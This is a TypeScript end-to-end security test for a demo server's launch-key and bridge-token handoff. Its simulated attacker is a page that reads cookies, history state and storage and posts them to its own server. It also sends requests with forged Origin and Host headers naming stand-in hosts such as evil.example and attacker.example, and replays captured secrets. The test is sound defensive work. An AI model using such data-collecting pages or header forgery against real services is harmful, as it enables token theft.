// Who gets the bridge's token from the demo server (docs/security.md, "The demo server"), end to end
// against `npm start`'s pieces (scripts/start.mjs) and Debian's Chromium driven by puppeteer-core:
// - a printed URL's launch key is redeemed once, in a header, for a secret of one tab, which the page
//   sends in a header to get the token; no cookie is ever set;
// - another local user's server on another port of 127.0.0.1, visited by the victim's browser after
//   the launch, learns neither the key nor the token (cookies are shared by every port);
// - a printed URL opened a second time (another browser) lets nothing in and spawns no agent;
// - a page on another origin that opens the demo (window.open), even from the tab the demo ran in,
//   starts no agent;
// - the user still gets in: a reload, "New tab", "Minimal embed" and a fresh printed URL.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import puppeteer, { type Browser, type BrowserContext, type HTTPRequest, type Page } from 'puppeteer-core';
import { chromiumArgs, ensureBrowsers } from '../../scripts/browsers.mjs';
import { type Demo, startDemo } from '../../scripts/start.mjs';
import {
  BridgeLog,
  bridgeAgents,
  bridgeState,
  chatConnected,
  embedState,
  launchKeyOf,
  type OtherUser,
  otherUserServer,
  send,
} from '../support/demo-e2e.ts';
import { waitFor } from '../support/page-wait.ts';
import { pollUntil } from '../support/poll.ts';

/** A secret as the demo mints them (base64url), to pick candidates out of what an attacker saw. */
const SECRET_LIKE = /[\w-]{20,}/g;

/**
 * The other local user's page: reports what it can read in this tab (cookies, history.state, storage)
 * to its own server, then, at `/open`, opens the demo and embed.html in new windows (tagged `from`).
 */
function otherUsersPage(demoOrigin: string): string {
  return `<!doctype html><title>another user's page</title><script>
    (async () => {
      const read = { cookie: document.cookie, state: history.state, session: { ...sessionStorage }, local: { ...localStorage } };
      await fetch('/collect', { method: 'POST', body: JSON.stringify(read) });
      if (location.pathname === '/open') {
        const from = new URLSearchParams(location.search).get('from');
        window.open(${JSON.stringify(demoOrigin)} + '/?from=' + from);
        window.open(${JSON.stringify(demoOrigin)} + '/embed.html?from=' + from);
      }
      document.title = 'done';
    })();
  </script>`;
}

/** The page of a window another page opened, found by the `from` tag in its URL. */
async function opened(context: BrowserContext, path: string, from: string): Promise<Page> {
  const target = await context.waitForTarget((t) => t.url().includes(`${path}?from=${from}`));
  const page = await target.page();
  assert.ok(page, `a page for ${path}?from=${from}`);
  await page.bringToFront(); // a background tab draws no frames, and waitFor polls once a frame
  return page;
}

test('the demo hands the bridge token to the tab that opened a printed URL, and to nothing else', {
  timeout: 180_000,
}, async (t) => {
  const { chromium } = ensureBrowsers(['chromium']);
  const sessionsDir = mkdtempSync(join(tmpdir(), 'silo-demo-sec-'));
  const log = new BridgeLog();
  let demo: Demo | undefined;
  let browser: Browser | undefined;
  let other: OtherUser | undefined;
  const agents = () => bridgeAgents(demo!.bridge!.pid);
  /** Waits until no connection is open and every one so far is counted in `log`. */
  const settled = () =>
    pollUntil(
      () => agents() === 0 && log.closed === log.spawned,
      () => `every agent to end (${agents()} running, ${log.spawned} spawned, ${log.closed} closed)`,
    );
  try {
    demo = await startDemo({ port: 0, sessionsDir, log: () => {}, bridgeLog: log.line });
    const { origin } = demo;
    const host = new URL(origin).host;
    const token = demo.bridge!.token;
    other = await otherUserServer(() => otherUsersPage(origin));
    // Without the back/forward cache, a tab that leaves the demo ends its connections (a cached page
    // keeps them open), so the bridge's log shows when every agent so far is over.
    const args = [...chromiumArgs, '--disable-features=BackForwardCache'];
    browser = await puppeteer.launch({ executablePath: chromium, headless: true, args });
    /** A fresh browser profile (another browser, as far as the demo can tell), closed after the subtest. */
    const contexts: BrowserContext[] = [];
    const newContext = async () => {
      const context = await browser!.createBrowserContext();
      contexts.push(context);
      return context;
    };
    t.afterEach(async () => {
      for (const context of contexts.splice(0)) await context.close();
    });

    await t.test(
      'the launch key is redeemed once, in a header, for a tab secret; never a cookie',
      async () => {
        const key = launchKeyOf(demo!.launchUrl());
        const session = new URL('/.silo-session', origin).href;
        const config = new URL('/.silo-bridge.json', origin).href;
        const fromPage = { host, origin, 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'cors' };
        const withKey = { ...fromPage, authorization: `Bearer ${key}` };
        const refused: [string, Record<string, string | string[]>, string?][] = [
          ['no browser headers (curl)', { authorization: `Bearer ${key}` }],
          ['same-site (another port of 127.0.0.1)', { ...withKey, 'sec-fetch-site': 'same-site' }],
          ['cross-site', { ...withKey, 'sec-fetch-site': 'cross-site' }],
          ['a navigation', { ...withKey, 'sec-fetch-site': 'none' }],
          ['no Origin', { host, 'sec-fetch-site': 'same-origin', authorization: `Bearer ${key}` }],
          ['a foreign Origin', { ...withKey, origin: 'https://evil.example' }],
          ['Origin: null', { ...withKey, origin: 'null' }],
          ['two Origins', { ...withKey, origin: [origin, 'https://evil.example'] }],
          ['a rebound Host', { ...withKey, host: `attacker.example:${new URL(origin).port}` }],
          ['another loopback name', { ...withKey, host: `localhost:${new URL(origin).port}` }],
          ['the key as a cookie', { ...fromPage, cookie: `silo-demo-launch-${new URL(origin).port}=${key}` }],
          [
            'a wrong key',
            { ...withKey, authorization: 'Bearer AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' },
          ],
          ['a GET', withKey, 'GET'],
        ];
        for (const [what, headers, method] of refused) {
          const r = await send(session, headers, method ?? 'POST');
          assert.ok(r.status === 403 || r.status === 405, `${what}: ${r.status}`);
          assert.equal(r.headers['set-cookie'], undefined, `${what}: no cookie`);
        }
        // Every refusal left the key unspent; it works once.
        const redeemed = await send(session, withKey, 'POST');
        assert.equal(redeemed.status, 200);
        assert.equal(redeemed.headers['set-cookie'], undefined, 'no cookie');
        assert.equal(redeemed.headers['cache-control'], 'no-store');
        const secret = (JSON.parse(redeemed.body) as { session: string }).session;
        assert.match(secret, /^[\w-]{43}$/);
        assert.equal((await send(session, withKey, 'POST')).status, 403, 'a spent key');

        assert.equal((await send(config, fromPage)).status, 403, 'no secret');
        assert.equal((await send(config, withKey)).status, 403, 'a launch key is not a tab secret');
        const tabSecret = { ...fromPage, authorization: `Bearer ${secret}` };
        assert.equal((await send(config, { ...tabSecret, 'sec-fetch-site': 'same-site' })).status, 403);
        const ok = await send(config, tabSecret);
        assert.equal(ok.status, 200);
        assert.equal(ok.headers['cache-control'], 'no-store');
        assert.equal(ok.headers['access-control-allow-origin'], undefined, 'no CORS');
        assert.equal(ok.headers['set-cookie'], undefined, 'no cookie');
        const body = JSON.parse(ok.body) as Record<string, unknown>;
        assert.deepEqual(Object.keys(body).sort(), [
          'agent',
          'connection',
          'cwd',
          'reference',
          'token',
          'url',
        ]);
        assert.equal(body.token, token);
        assert.equal(body.agent, 'Silo reference agent', 'a name, not the command line');

        // A tab's secret mints one-time keys for tabs the page opens.
        const launch = new URL('/.silo-launch', origin).href;
        assert.equal((await send(launch, withKey, 'POST')).status, 403, 'not with a launch key');
        const minted = await send(launch, tabSecret, 'POST');
        assert.equal(minted.status, 200);
        const tabKey = (JSON.parse(minted.body) as { launch: string }).launch;
        const withTabKey = { ...fromPage, authorization: `Bearer ${tabKey}` };
        assert.equal((await send(session, withTabKey, 'POST')).status, 200);
        assert.equal((await send(session, withTabKey, 'POST')).status, 403, 'once');
      },
    );

    await t.test(
      "another local user's server on another port learns neither the launch key nor the token",
      async () => {
        const key = launchKeyOf(demo!.url);
        const context = await newContext();
        const victim = await context.newPage();
        await victim.goto(demo!.url);
        await chatConnected(victim, 'the victim’s demo tab connected');
        const address = victim.url();
        const tabState = await victim.evaluate(() => JSON.stringify(history.state));
        // A page sends the victim's tab to the other user's port: a link, a redirect, a typed address.
        await victim.goto(`${other!.origin}/steal`);
        await waitFor(victim, 'the other user’s page ran', () => document.title === 'done');
        const seen = JSON.stringify(other!.seen);
        for (const [what, secret] of [
          ['the launch key', key],
          ['the bridge token', token],
          ...[...tabState.matchAll(SECRET_LIKE)].map((m) => ['the tab secret', m[0]]),
        ] as [string, string][]) {
          const at = seen.indexOf(secret);
          assert.ok(
            at === -1,
            `${what} reached the other port: …${seen.slice(Math.max(0, at - 120), at + 60)}…`,
          );
        }
        assert.deepEqual(
          other!.seen.map((r) => r.headers.cookie),
          other!.seen.map(() => undefined),
          'the browser sent the other port no cookie',
        );
        assert.deepEqual(await context.cookies(), [], 'the demo set no cookie at all');
        assert.ok(!address.includes(key), `the key is out of the address bar: ${address}`);
        // The other user replays everything it saw, with every browser header forged.
        const cookies = other!.seen.flatMap((r) => (r.headers.cookie ? [String(r.headers.cookie)] : []));
        const candidates = [...new Set(seen.match(SECRET_LIKE) ?? [])];
        const forged = { host, origin, 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'cors' };
        for (const cookie of [undefined, ...cookies]) {
          for (const secret of [undefined, ...candidates]) {
            const headers = {
              ...forged,
              ...(cookie ? { cookie } : {}),
              ...(secret ? { authorization: `Bearer ${secret}` } : {}),
            };
            const config = await send(new URL('/.silo-bridge.json', origin).href, headers);
            assert.ok(!config.body.includes(token), 'no token for what the other port saw');
            const session = await send(new URL('/.silo-session', origin).href, headers, 'POST');
            assert.notEqual(session.status, 200, 'no tab secret for what the other port saw');
          }
        }
      },
    );

    await t.test(
      'a printed URL opens one tab: opened again, in another browser, it spawns no agent',
      async () => {
        await settled();
        const before = log.spawned;
        const context = await newContext();
        const page = await context.newPage();
        await page.goto(demo!.url);
        assert.equal(await bridgeState(page), 'locked', 'a spent key lets no tab in');
        assert.equal(agents(), 0);
        assert.equal(log.spawned, before, 'no agent spawned');
      },
    );

    await t.test(
      'a page on another origin opening the demo starts no agent, even from the demo’s tab',
      async () => {
        const context = await newContext();
        const own = await context.newPage();
        await own.goto(demo!.launchUrl());
        await chatConnected(own, 'the user’s demo tab connected');
        // The user goes on, in the demo's tab, to the other user's page; it opens the demo in new windows
        // (which Chromium gives a copy of this tab's sessionStorage); so does a page in a second tab.
        await own.goto(`${other!.origin}/open?from=same-tab`);
        const second = await context.newPage();
        await second.goto(`${other!.origin}/open?from=new-tab`);
        await settled();
        const before = log.spawned;
        for (const from of ['same-tab', 'new-tab']) {
          assert.equal(
            await bridgeState(await opened(context, '/', from)),
            'locked',
            `the demo opened from ${from}`,
          );
          assert.equal(
            await embedState(await opened(context, '/embed.html', from)),
            'refused',
            `embed.html, ${from}`,
          );
        }
        assert.equal(agents(), 0);
        assert.equal(log.spawned, before, 'no agent spawned for the opened windows');
      },
    );

    await t.test('the user gets in: reload, "New tab", "Minimal embed", a fresh printed URL', async () => {
      const context = await newContext();
      const page = await context.newPage();
      await page.goto(demo!.launchUrl());
      await chatConnected(page, 'the demo tab connected');
      await page.reload();
      await chatConnected(page, 'the demo tab connected again after a reload');
      // The page's launch key requests are held until the new tab is seen: the tab opens in the click
      // (a popup blocker refuses a window opened once a slow answer came, the click's activation gone).
      await page.setRequestInterception(true);
      let heldLaunch: (r: HTTPRequest) => void = () => undefined;
      const nextLaunch = () => new Promise<HTTPRequest>((resolve) => (heldLaunch = resolve));
      let launchRequest = nextLaunch();
      page.on('request', (r) => {
        if (new URL(r.url()).pathname === '/.silo-launch') heldLaunch(r);
        else void r.continue();
      });
      for (const [button, path] of [
        ['#new-tab', '/'],
        ['#open-embed', '/embed.html'],
      ] as const) {
        const known = new Set(context.targets());
        const blank = context.waitForTarget((t) => !known.has(t) && t.type() === 'page');
        const next = context.waitForTarget((t) => !known.has(t) && t.url().startsWith(`${origin}${path}`));
        await page.bringToFront(); // the tab opened last has the focus
        // A locator clicks once the button holds still: the sidebar may still be laying out the history
        // the reload brought back, and a click at coordinates read before a shift lands elsewhere.
        await page.locator(button).click();
        // Opened while its key's request is held (with the window opened after the answer, none opens).
        const early = await blank;
        const held = await launchRequest;
        launchRequest = nextLaunch();
        assert.ok(!early.url().includes('launch='), `${button}: the tab opened before its key came`);
        assert.equal(await (await early.page())!.evaluate(() => window.opener), null, 'no opener, ever');
        await held.continue();
        // If no tab opens, say what the page said and which tabs there are (once seen in CI, not
        // reproduced since: the next run's message tells a blocked window.open from a refused key).
        const opened = await next.catch(async (e: Error) => {
          const said = await page
            .$eval('.message', (m) => m.textContent?.trim() ?? '')
            .catch(() => 'no message');
          const urls = context.targets().map((t) => t.url().replace(/#.*/, '#…'));
          throw new Error(
            `${e.message}: no tab opened by ${button}; the page says "${said}"; tabs: ${urls.join(', ')}`,
          );
        });
        const tab = await opened.page();
        assert.equal(
          await tab!.evaluate(() => window.opener),
          null,
          `the tab ${button} opened has no opener`,
        );
        // It restores the session the first tab drives, so it follows it.
        await chatConnected(tab!, `the tab ${button} opened connected`, true);
        assert.ok(!tab!.url().includes('launch='), `its key is out of the address bar: ${tab!.url()}`);
        await tab!.reload();
        await chatConnected(tab!, `the tab ${button} opened connected again after a reload`, true);
      }
      // Another browser (or this one restarted) opens a fresh URL, as Enter in the terminal prints.
      const restarted = await newContext();
      const fresh = await restarted.newPage();
      await fresh.goto(demo!.launchUrl());
      await chatConnected(fresh, 'a fresh printed URL connected');
    });
  } finally {
    await browser?.close();
    other?.close();
    await demo?.stop();
    rmSync(sessionsDir, { recursive: true, force: true });
  }
});
